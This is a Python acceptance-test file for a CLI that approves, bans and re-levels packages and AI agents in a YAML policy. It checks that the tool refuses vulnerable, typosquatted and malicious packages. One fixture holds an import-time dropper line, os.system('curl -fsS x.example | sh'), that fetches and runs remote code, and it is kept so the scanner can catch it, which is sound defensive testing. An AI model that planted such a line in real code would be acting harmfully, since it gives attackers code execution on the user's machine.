"""``skillgate approve``, ``ban``, ``graduate`` and ``demote`` through the real CLI: the YAML each
writes (comments and layout kept byte for byte), the changes each refuses (nothing written),
and the markdown block each prints for the pull request.

``approve`` resolves and downloads from a real PEP 503 index on 127.0.0.1 and scans with the
vendored PyPA advisories; nothing leaves the machine.
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import socket
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tests.acceptance.cli_helpers import cli, git
from tests.conftest import TEAM_REPO, CliResult
from tests.heuristics.artifacts import write_wheel
from tests.lock import conftest as lock_fixtures
from tests.lock.conftest import Index
from tests.lock.local_index import make_wheel, serve, write_index

isolated_pip = lock_fixtures.isolated_pip

TARGET = "cp311-manylinux_2_36_x86_64"
DROPPER = "import os\n\nos.system('curl -fsS x.example | sh')\n"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """The suite's team repository; its DB-age limit fits the vendored 2024 advisories."""
    target = tmp_path / "repo"
    shutil.copytree(TEAM_REPO, target, ignore=shutil.ignore_patterns("__pycache__"))
    scanning = target / "policy" / "scanning.yaml"
    text = scanning.read_text(encoding="utf-8")
    scanning.write_text(
        re.sub(r"(?m)^max_db_age_days: \d+$", "max_db_age_days: 36500", text), encoding="utf-8"
    )
    return target


@pytest.fixture
def index(tmp_path: Path, isolated_pip: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Index]:
    """The only index pip knows: alpha (1.0 needs beta; 1.1; 2.0), Jinja2 2.10 (known
    vulnerable), reqeusts 1.0 (a name one typo from requests), quietpkg 1.0 (runs a shell
    command when imported)."""
    built = tmp_path / "built"
    built.mkdir()
    make_wheel(built, "alpha", "1.0", requires=["beta>=1"])
    make_wheel(built, "alpha", "1.1")
    make_wheel(built, "alpha", "2.0")
    make_wheel(built, "beta", "2.0")
    make_wheel(built, "Jinja2", "2.10")
    make_wheel(built, "reqeusts", "1.0")
    write_wheel(built, "quietpkg", {"quietpkg/__init__.py": DROPPER})
    root = tmp_path / "index"
    write_index(root, sorted(built.iterdir()))
    with serve(root) as url:
        served = Index(root=root, url=url)
        monkeypatch.setenv("PIP_INDEX_URL", served.simple)
        yield served


def sha256(index: Index, filename: str) -> str:
    return hashlib.sha256((index.root / "files" / filename).read_bytes()).hexdigest()


def approve(repo: Path, db: Path, requirement: str, *args: str) -> CliResult:
    return cli(
        repo,
        "approve",
        requirement,
        "--approved-by",
        "security-team",
        "--vuln-db",
        str(db),
        *args,
    )


def text(path: Path) -> str:
    return path.read_text(encoding="utf-8")


# --- approve ---------------------------------------------------------------------------------


def test_approve_a_clean_release_writes_the_file_and_prints_the_pr_block(
    repo: Path, index: Index, advisory_index: Path
) -> None:
    result = approve(
        repo,
        advisory_index,
        "alpha==1.0",
        "--min-level",
        "INTERN",
        "--reason",
        "tiny helpers for report skills",
        "--ticket",
        "SEC-7",
        "--expires",
        "2999-12-31",
    )
    assert result.exit_code == 0, result.stderr
    written = (
        "approvals:\n"
        "  - package: alpha\n"
        '    versions: "==1.0"\n'
        "    min_level: INTERN\n"
        "    approved_by: security-team\n"
        "    reason: tiny helpers for report skills\n"
        "    ticket: SEC-7\n"
        "    expires: 2999-12-31\n"
    )
    assert text(repo / "policy/packages/alpha.yaml") == written
    assert result.stderr == (
        f"resolving alpha==1.0 for {TARGET} on the configured package index\n"
        "scanning alpha-1.0-py3-none-any.whl\n"
        "wrote policy/packages/alpha.yaml (line 1)\n"
    )
    wheel = "alpha-1.0-py3-none-any.whl"
    assert result.stdout == (
        "### Approve `alpha==1.0` for INTERN\n"
        "\n"
        "`policy/packages/alpha.yaml` (new file), line 1:\n"
        "\n"
        f"```yaml\n{written}```\n"
        "\n"
        "#### Release checked\n"
        "\n"
        "| check | result |\n"
        "|---|---|\n"
        "| release | `alpha 1.0` |\n"
        f"| target | `{TARGET}` |\n"
        f"| wheel | `{wheel}` sha256 `{sha256(index, wheel)}` |\n"
        f"| index | `{index.simple}` |\n"
        "| dependencies | `beta==2.0` (scanned when a skill locks them) |\n"
        "| known vulnerabilities | none (vulnerability DB snapshot 2024-10-10T17:35:05+00:00, "
        "442 records) |\n"
        "| malicious-code heuristics | no findings |\n"
        "| typosquat | resembles no popular package |\n"
        "\n"
        "#### What this change breaks\n"
        "\n"
        "Nothing: every other file still validates and every policy test passes.\n"
        "\n"
        "### Policy diff `current policy` → `with this change`\n"
        "\n"
        "| change | subject | detail | where |\n"
        "|---|---|---|---|\n"
        "| approval added | `alpha` | ==1.0 for INTERN, expires 2999-12-31 | "
        "`policy/packages/alpha.yaml:2` |\n"
        "\n"
        "#### Blast radius\n"
        "\n"
        "| agent | level | gains | losses |\n"
        "|---|---|---|---|\n"
        "| `doc-bot` | AUTONOMOUS | `alpha ==1.0` | — |\n"
        "| `intern-7` | INTERN | `alpha ==1.0` | — |\n"
        "| `ops-helper` | INTERN | `alpha ==1.0` | — |\n"
        "| `research-assistant` | SUPERVISED | `alpha ==1.0` | — |\n"
    )
    validated = cli(repo, "validate", "--vuln-db", str(advisory_index), "--expiring-days", "0")
    assert (validated.exit_code, validated.stdout) == (0, "")


COMMENTED_APPROVALS = """\
# alpha: reviewed by the platform team (SEC-1).
approvals:
  - package: alpha
    versions: "==0.9"     # the release the first skill was built on
    min_level: SUPERVISED
    approved_by: platform-team
    reason: >-
      helpers for the report skills,
      reviewed line by line

"""


def test_approve_extends_an_existing_file_byte_for_byte_with_the_newest_admitted_release(
    repo: Path, index: Index, advisory_index: Path
) -> None:
    path = repo / "policy/packages/alpha.yaml"
    path.write_text(COMMENTED_APPROVALS, encoding="utf-8")
    result = approve(
        repo, advisory_index, "alpha >= 1, < 2", "--min-level", "SUPERVISED", "--reason", "1.x"
    )
    assert result.exit_code == 0, result.stderr
    added = (
        "  - package: alpha\n"
        '    versions: ">=1,<2"\n'
        "    min_level: SUPERVISED\n"
        "    approved_by: security-team\n"
        "    reason: 1.x\n"
    )
    # The blank line ends the folded reason: the entry goes after it.
    assert text(path) == COMMENTED_APPROVALS + added
    assert "wrote policy/packages/alpha.yaml (line 11)\n" in result.stderr
    assert f"```yaml\n{added}```\n" in result.stdout
    # 2.0 is on the index, but the specifier stops below it.
    assert "| release | `alpha 1.1` (the newest release `>=1,<2` admits) |\n" in result.stdout
    assert "| dependencies | none |\n" in result.stdout


def test_approve_refuses_a_known_vulnerable_release_and_writes_nothing(
    repo: Path, index: Index, advisory_index: Path
) -> None:
    # A range that admits fixed releases validates; the scan of the newest release it
    # admits on this index (2.10) refuses it.
    result = approve(
        repo, advisory_index, "jinja2>=2.10,<3", "--min-level", "SUPERVISED", "--reason", "t"
    )
    assert result.exit_code == 1
    lines = result.stdout.splitlines()
    assert [line.partition(" (")[0] for line in lines[:-1]] == [
        "Jinja2-2.10-py3-none-any.whl: error vuln.known jinja2==2.10: PYSEC-2019-217",
        "Jinja2-2.10-py3-none-any.whl: error vuln.known jinja2==2.10: PYSEC-2021-66",
    ]
    assert lines[-1] == "2 findings: 2 errors"
    assert result.stderr.endswith("Error: refusing to approve jinja2==2.10: it fails the scan\n")
    assert not (repo / "policy/packages/jinja2.yaml").exists()

    # A pin on the vulnerable release does not even validate.
    pinned = approve(
        repo, advisory_index, "jinja2==2.10", "--min-level", "SUPERVISED", "--reason", "t"
    )
    assert pinned.exit_code == 1
    assert pinned.stdout.startswith(
        "policy/packages/jinja2.yaml:3:15: error approval.vulnerable every version of jinja2 "
        "that '==2.10' admits is known-vulnerable: PYSEC-2019-217 (fixed in 2.10.1), "
        "PYSEC-2021-66 (fixed in 2.11.3)"
    )
    assert pinned.stderr == (
        "Error: policy/packages/jinja2.yaml would not validate (1 error); nothing written\n"
    )
    assert not (repo / "policy/packages/jinja2.yaml").exists()


def test_approve_refuses_a_release_with_malicious_looking_code(
    repo: Path, index: Index, advisory_index: Path
) -> None:
    result = approve(
        repo, advisory_index, "quietpkg==1.0", "--min-level", "SUPERVISED", "--reason", "q"
    )
    assert result.exit_code == 1
    assert result.stdout == (
        "quietpkg-1.0-py3-none-any.whl!quietpkg/__init__.py:3:1: error mal.import-time-process "
        "runs at import time: starts a process (os.system): "
        "os.system('curl -fsS x.example | sh')\n"
        "1 finding: 1 error\n"
    )
    assert result.stderr.endswith("Error: refusing to approve quietpkg==1.0: it fails the scan\n")
    assert not (repo / "policy/packages/quietpkg.yaml").exists()


def test_approve_refuses_a_typosquat_unless_the_override_is_recorded(
    repo: Path, index: Index, advisory_index: Path
) -> None:
    args = ("--min-level", "INTERN", "--reason", "our fork of a lab tool, not requests")
    refused = approve(repo, advisory_index, "reqeusts==1.0", *args)
    assert (refused.exit_code, refused.stdout) == (1, "")
    assert refused.stderr == (
        "Error: 'reqeusts' looks like a typosquat of 'requests' (is one typo away); if it is "
        "not, pass --not-a-typosquat-of requests and say why in --reason\n"
    )
    assert not (repo / "policy/packages/reqeusts.yaml").exists()

    accepted = approve(
        repo, advisory_index, "reqeusts==1.0", *args, "--not-a-typosquat-of", "Requests"
    )
    assert accepted.exit_code == 0, accepted.stderr
    assert text(repo / "policy/packages/reqeusts.yaml").endswith(
        "    reason: our fork of a lab tool, not requests\n    not_a_typosquat_of: requests\n"
    )
    assert (
        "| typosquat | resembles `requests` (is one typo away); reviewed: "
        "`not_a_typosquat_of: requests` |\n"
    ) in accepted.stdout
    validated = cli(repo, "validate", "--vuln-db", str(advisory_index), "--expiring-days", "0")
    assert (validated.exit_code, validated.stdout) == (0, "")

    pointless = approve(
        repo, advisory_index, "alpha==1.0", *args, "--not-a-typosquat-of", "requests"
    )
    assert pointless.exit_code == 2
    assert pointless.stderr == (
        "Error: 'alpha' does not look like a typosquat of any popular package; "
        "drop --not-a-typosquat-of\n"
    )


def test_approve_of_a_release_that_does_not_exist_is_refused(
    repo: Path, index: Index, advisory_index: Path
) -> None:
    args = ("--min-level", "INTERN", "--reason", "r")
    missing = approve(repo, advisory_index, "alpha==9.9", *args)
    assert (missing.exit_code, missing.stdout) == (1, "")
    assert missing.stderr.endswith(
        f"Error: alpha==9.9: no such release on the package index for {TARGET} "
        "(versions there: 1.0, 1.1, 2.0)\n"
    )
    unknown = approve(repo, advisory_index, "nosuch==1.0", *args)
    assert unknown.exit_code == 1
    assert unknown.stderr.endswith(
        f"Error: nosuch==1.0: no such release on the package index for {TARGET} "
        "(versions there: none)\n"
    )
    assert sorted(p.name for p in (repo / "policy/packages").iterdir()) == [
        "markdown.yaml",
        "numpy.yaml",
        "packaging.yaml",
        "pyyaml.yaml",
        "requests.yaml",
    ]


def test_approve_refuses_a_change_that_would_not_validate_before_asking_the_index(
    repo: Path, advisory_index: Path
) -> None:
    # No index fixture: pip is never run for a change that cannot be written anyway.
    result = approve(repo, advisory_index, "alpha==1.0", "--min-level", "EXPERT", "--reason", "r")
    assert result.exit_code == 1
    assert result.stdout == (
        "policy/packages/alpha.yaml:4:16: error level.unknown approval refers to unknown level "
        "'EXPERT' (levels: STUDENT, INTERN, SUPERVISED, AUTONOMOUS)\n"
        "1 finding: 1 error\n"
    )
    assert result.stderr == (
        "Error: policy/packages/alpha.yaml would not validate (1 error); nothing written\n"
    )
    assert not (repo / "policy/packages/alpha.yaml").exists()


def test_approve_without_a_vulnerability_db_cannot_decide(repo: Path, index: Index) -> None:
    result = cli(
        repo,
        "approve",
        "alpha==1.0",
        "--min-level",
        "INTERN",
        "--reason",
        "r",
        "--approved-by",
        "security-team",
    )
    assert (result.exit_code, result.stdout) == (3, "")
    assert result.stderr == (
        "Error: no vulnerability DB is imported, so alpha==1.0 cannot be checked for known "
        "vulnerabilities; import one with `skillgate db update --from PATH|URL`\n"
    )
    assert not (repo / "policy/packages/alpha.yaml").exists()


def test_approve_when_the_index_cannot_be_reached_cannot_decide(
    repo: Path, isolated_pip: Path, advisory_index: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A port that is bound but not listening refuses connections at once.
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{closed.getsockname()[1]}/simple"
        monkeypatch.setenv("PIP_INDEX_URL", url)
        monkeypatch.setenv("PIP_RETRIES", "0")
        result = approve(
            repo, advisory_index, "alpha==1.0", "--min-level", "INTERN", "--reason", "r"
        )
    assert (result.exit_code, result.stdout) == (3, "")
    error = result.stderr.splitlines()[-1]
    assert error.startswith(f"Error: cannot reach the package index: {url}/alpha/: ")
    assert "Connection refused" in error
    assert not (repo / "policy/packages/alpha.yaml").exists()


def test_approve_usage_errors(repo: Path, advisory_index: Path) -> None:
    args = ("--min-level", "INTERN", "--reason", "r")
    bare = approve(repo, advisory_index, "alpha", *args)
    assert (bare.exit_code, bare.stderr) == (
        2,
        "Error: 'alpha' names no version: give NAME==VERSION or a specifier such as "
        "'requests>=2.32.3,<3'\n",
    )
    extras = approve(repo, advisory_index, "alpha[fast]==1.0", *args)
    assert extras.exit_code == 2
    assert extras.stderr.startswith("Error: 'alpha[fast]==1.0': approve a name and versions only")
    past = approve(repo, advisory_index, "alpha==1.0", *args, "--expires", "2020-01-01")
    assert (past.exit_code, past.stderr) == (2, "Error: --expires 2020-01-01 is in the past\n")
    assert not (repo / "policy/packages/alpha.yaml").exists()


def test_approved_by_defaults_to_the_repository_git_email(
    repo: Path, index: Index, advisory_index: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    args = ("approve", "alpha==1.1", "--min-level", "INTERN", "--reason", "r")
    db = ("--vuln-db", str(advisory_index))
    unset = cli(repo, *args, *db)
    assert (unset.exit_code, unset.stderr) == (
        2,
        "Error: give --approved-by: `git config user.email` is not set for the repository\n",
    )
    git(repo, "init", "-q")
    git(repo, "config", "user.email", "reviewer@example.invalid")
    result = cli(repo, *args, *db)
    assert result.exit_code == 0, result.stderr
    assert "    approved_by: reviewer@example.invalid\n" in text(
        repo / "policy/packages/alpha.yaml"
    )


def test_approve_dry_run_checks_everything_and_writes_nothing(
    repo: Path, index: Index, advisory_index: Path
) -> None:
    soon = (datetime.now(UTC).date() + timedelta(days=10)).isoformat()
    args = ("--min-level", "INTERN", "--reason", "r", "--expires", soon, "--dry-run")
    result = approve(repo, advisory_index, "alpha==1.1", *args)
    assert result.exit_code == 0, result.stderr
    assert result.stderr.endswith("would write (--dry-run) policy/packages/alpha.yaml (line 1)\n")
    assert result.stdout.startswith("### Approve `alpha==1.1` for INTERN\n")
    # What validate notes about the new entry is shown to the reviewer.
    assert (
        "#### Notes on the edited file\n\n- `policy/packages/alpha.yaml:7:14` notice "
        f"`approval.expiring`: approval of alpha '==1.1' expires on {soon} (in "
    ) in result.stdout
    assert not (repo / "policy/packages/alpha.yaml").exists()


# --- ban -------------------------------------------------------------------------------------


def test_ban_lists_the_skill_tests_and_agents_it_breaks_and_writes_anyway(repo: Path) -> None:
    bans = repo / "policy/bans.yaml"
    before = text(bans)
    result = cli(repo, "ban", "Markdown", "--reason", "maintainer account taken over")
    assert result.exit_code == 0, result.stderr
    added = "  - package: markdown\n    reason: maintainer account taken over\n"
    assert text(bans) == before + added
    assert result.stderr == "wrote policy/bans.yaml (line 12); it breaks 3 things elsewhere\n"
    assert result.stdout == (
        "### Ban `markdown` (every version)\n"
        "\n"
        "`policy/bans.yaml`, line 12:\n"
        "\n"
        f"```yaml\n{added}```\n"
        "\n"
        "#### What this change breaks\n"
        "\n"
        "- `policy/packages/markdown.yaml:3:15` error `approval.shadowed`: approval of markdown "
        "'>=3.6,<4' can never apply: the ban at policy/bans.yaml:12 covers every version it "
        "admits\n"
        "- `policy/tests/levels.yaml:29:5` error `policy-test.failed`: autonomous agents inherit "
        "lower approvals: expected allow, got deny; decided by policy/bans.yaml:12: markdown * is "
        "banned: maintainer account taken over\n"
        "- `skills/markdown-render/skill.yaml:8:5` error `skill.not-allowed`: markdown==3.7 is not "
        "allowed for the skill's min_level SUPERVISED: markdown * is banned: maintainer account "
        "taken over\n"
        "\n"
        "### Policy diff `current policy` → `with this change`\n"
        "\n"
        "| change | subject | detail | where |\n"
        "|---|---|---|---|\n"
        "| ban added | `markdown` | *: maintainer account taken over | `policy/bans.yaml:12` |\n"
        "\n"
        "#### Blast radius\n"
        "\n"
        "| agent | level | gains | losses |\n"
        "|---|---|---|---|\n"
        "| `doc-bot` | AUTONOMOUS | — | `markdown >=3.6,<4`<br>skill `markdown-render` |\n"
        "| `research-assistant` | SUPERVISED | — | `markdown >=3.6,<4`<br>skill "
        "`markdown-render` |\n"
    )
    # The skill is now invalid, as listed: validate says so.
    validated = cli(repo, "validate", "--expiring-days", "0")
    assert validated.exit_code == 1
    assert "skills/markdown-render/skill.yaml:8:5: error skill.not-allowed" in validated.stdout


COMMENTED_BANS = """\
# Bans always win over approvals.
bans:
  - package: ctx   # account takeover
    reason: malicious releases in 2022

  - package: pyyaml
    versions: '<5.4'
    reason: CVE-2020-14343
# Lifted bans are removed, not commented out.
"""


def test_ban_of_a_range_keeps_comments_and_quotes_and_shows_no_blast_radius(repo: Path) -> None:
    bans = repo / "policy/bans.yaml"
    bans.write_text(COMMENTED_BANS, encoding="utf-8")
    result = cli(repo, "ban", "requests < 2.32.3", "--reason", "CVE-2024-35195", "--ticket", "S-9")
    assert result.exit_code == 0, result.stderr
    added = (
        "  - package: requests\n"
        '    versions: "<2.32.3"\n'
        "    reason: CVE-2024-35195\n"
        "    ticket: S-9\n"
    )
    # The comment that closed the list still closes it.
    head, _, tail = COMMENTED_BANS.rpartition("# Lifted")
    assert text(bans) == head + added + "# Lifted" + tail
    assert result.stdout.startswith(
        f"### Ban `requests<2.32.3`\n\n`policy/bans.yaml`, line 9:\n\n```yaml\n{added}```\n"
    )
    assert result.stdout.endswith(
        "#### Blast radius\n\nNo agent gains or loses any package or skill.\n"
    )


def test_ban_creates_bans_yaml_when_missing(repo: Path) -> None:
    (repo / "policy/bans.yaml").unlink()
    result = cli(repo, "ban", "ctx", "--reason", "malicious releases in 2022")
    assert result.exit_code == 0, result.stderr
    assert text(repo / "policy/bans.yaml") == (
        "bans:\n  - package: ctx\n    reason: malicious releases in 2022\n"
    )
    assert "`policy/bans.yaml` (new file), line 1:\n" in result.stdout


def test_ban_refuses_an_invalid_specifier_or_an_existing_ban_and_writes_nothing(
    repo: Path,
) -> None:
    bans = repo / "policy/bans.yaml"
    before = bans.read_bytes()
    result = cli(repo, "ban", "pyyaml>=5,,<6", "--reason", "r")
    assert result.exit_code == 1
    assert result.stdout == (
        "policy/bans.yaml:13:15: error specifier.invalid '>=5,,<6' is not a valid PEP 440 "
        "specifier set (hint: e.g. '>=2.32.3,<3' or '==6.0.2'; use '*' for every version)\n"
        "1 finding: 1 error\n"
    )
    assert (
        result.stderr == "Error: policy/bans.yaml would not validate (1 error); nothing written\n"
    )
    again = cli(repo, "ban", "PyYAML < 5.4", "--reason", "r")
    assert (again.exit_code, again.stdout, again.stderr) == (
        1,
        "",
        "Error: PyYAML < 5.4 is already banned at policy/bans.yaml:4\n",
    )
    assert bans.read_bytes() == before


# --- graduate / demote -----------------------------------------------------------------------


COMMENTED_AGENTS = """\
# The agent registry. Graduating an agent is a reviewed PR.
agents:
  - id: research-assistant
    level: SUPERVISED
    owner: data-team
  - id: intern-7
    level: INTERN          # since the 2024 review
    owner: platform-team
  - id: doc-bot
    level: AUTONOMOUS
    owner: docs-team
  - id: new-hire
    level: STUDENT
    owner: platform-team
  - id: ops-helper
    level: INTERN
    owner: sre-team
"""


def test_graduate_shows_the_blast_radius_and_keeps_the_comments(repo: Path) -> None:
    agents = repo / "policy/agents.yaml"
    agents.write_text(COMMENTED_AGENTS, encoding="utf-8")
    result = cli(repo, "graduate", "intern-7", "SUPERVISED")
    assert result.exit_code == 0, result.stderr
    assert text(agents) == COMMENTED_AGENTS.replace(
        "    level: INTERN          # since", "    level: SUPERVISED      # since"
    )
    assert result.stderr == "wrote policy/agents.yaml (line 7); it breaks 2 things elsewhere\n"
    assert result.stdout == (
        "### Graduate `intern-7`: INTERN → SUPERVISED\n"
        "\n"
        "`policy/agents.yaml`, line 7:\n"
        "\n"
        "```diff\n"
        "-    level: INTERN          # since the 2024 review\n"
        "+    level: SUPERVISED      # since the 2024 review\n"
        "```\n"
        "\n"
        "#### What this change breaks\n"
        "\n"
        "- `policy/tests/bans.yaml:17:5` error `policy-test.failed`: skills need the level of "
        "their packages: expected deny, got allow; decided by "
        "skills/markdown-render/skill.yaml:1: skill markdown-render allowed for SUPERVISED: "
        "every package it locks is allowed\n"
        "- `policy/tests/levels.yaml:13:5` error `policy-test.failed`: interns do not get ranges: "
        "expected deny, got allow; decided by policy/packages/pyyaml.yaml:8: pyyaml==6.0.1 "
        "approved (>=6.0.1,<7) for SUPERVISED and above\n"
        "\n"
        "### Policy diff `current policy` → `with this change`\n"
        "\n"
        "| change | subject | detail | where |\n"
        "|---|---|---|---|\n"
        "| agent graduated | `intern-7` | INTERN -> SUPERVISED | `policy/agents.yaml:6` |\n"
        "\n"
        "#### Blast radius\n"
        "\n"
        "| agent | level | gains | losses |\n"
        "|---|---|---|---|\n"
        "| `intern-7` | INTERN → SUPERVISED | `markdown >=3.6,<4`<br>`pyyaml >=6.0.1,<7,!=6.0.2`"
        "<br>`requests >=2.32.3,<3`<br>skill `markdown-render` | — |\n"
    )


def test_demote_lists_what_the_agent_loses(repo: Path) -> None:
    result = cli(repo, "demote", "doc-bot", "supervised")
    assert result.exit_code == 0, result.stderr
    assert "    level: SUPERVISED\n    owner: docs-team\n" in text(repo / "policy/agents.yaml")
    assert result.stdout.startswith("### Demote `doc-bot`: AUTONOMOUS → SUPERVISED\n")
    assert result.stdout.endswith(
        "| `doc-bot` | AUTONOMOUS → SUPERVISED | — | `numpy >=1.26,<3,!=1.26.4`<br>"
        "`packaging >=24,<27,!=24.2` |\n"
    )


def test_level_changes_in_the_wrong_direction_or_to_unknown_names_are_usage_errors(
    repo: Path,
) -> None:
    agents = repo / "policy/agents.yaml"
    before = agents.read_bytes()
    cases = [
        (("graduate", "doc-bot", "INTERN"), "INTERN is below AUTONOMOUS: use `skillgate demote "
         "doc-bot INTERN`"),
        (("demote", "intern-7", "AUTONOMOUS"), "AUTONOMOUS is above INTERN: use `skillgate "
         "graduate intern-7 AUTONOMOUS`"),
        (("graduate", "intern-7", "INTERN"), "intern-7 is already INTERN"),
        (("graduate", "intern-7", "EXPERT"), "unknown level 'EXPERT'; known levels: STUDENT, "
         "INTERN, SUPERVISED, AUTONOMOUS"),
        (("graduate", "ghost", "INTERN"), "unknown agent 'ghost': it is not in "
         "policy/agents.yaml (unregistered agents get STUDENT); pass --owner TEAM to register "
         "it at INTERN"),
        (("graduate", "intern-7", "SUPERVISED", "--owner", "x"), "intern-7 is already "
         "registered (owner platform-team); --owner only registers a new agent"),
    ]  # fmt: skip
    for args, message in cases:
        result = cli(repo, *args)
        assert (result.exit_code, result.stdout, result.stderr) == (2, "", f"Error: {message}\n")
    assert agents.read_bytes() == before


def test_owner_registers_a_new_agent(repo: Path) -> None:
    agents = repo / "policy/agents.yaml"
    before = text(agents)
    result = cli(repo, "graduate", "report-bot", "INTERN", "--owner", "ml-team")
    assert result.exit_code == 0, result.stderr
    assert text(agents) == before + "  - id: report-bot\n    level: INTERN\n    owner: ml-team\n"
    assert result.stdout.startswith(
        "### Graduate `report-bot` (new, owner ml-team): STUDENT → INTERN\n"
    )
    assert (
        "| `report-bot` | STUDENT → INTERN | `numpy ==1.26.4`<br>`packaging ==24.2`<br>"
        "`pyyaml ==6.0.2`<br>skill `version-sort`<br>skill `yaml-normalize` | — |\n"
    ) in result.stdout
